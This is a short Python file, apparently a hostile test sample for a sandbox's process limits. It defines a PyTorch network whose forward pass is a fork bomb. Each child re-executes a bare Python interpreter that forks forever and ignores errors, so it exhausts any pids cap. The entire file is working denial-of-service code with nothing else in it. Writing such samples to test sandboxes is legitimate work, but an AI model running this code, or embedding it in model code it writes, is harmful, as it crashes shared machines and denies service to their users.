"""Hostile: a fork bomb in forward that shrugs off EAGAIN, in every process it makes.

Forking a process that has torch loaded copies a lot of page tables, so each
child first re-executes itself as a bare Python (no site, no torch) that forks
forever: the bomb then fills any pids cap within moments.
"""

import os
import sys

import torch
from torch import nn

_BOMB = "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n"


class Net(nn.Module):
    def __init__(self) -> None:
        super().__init__()
        self.fc = nn.Linear(64, 10)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        while True:
            try:
                if os.fork() == 0:
                    os.execv(sys.executable, [sys.executable, "-S", "-c", _BOMB])
            except OSError:
                pass  # the pids cap says no; keep asking
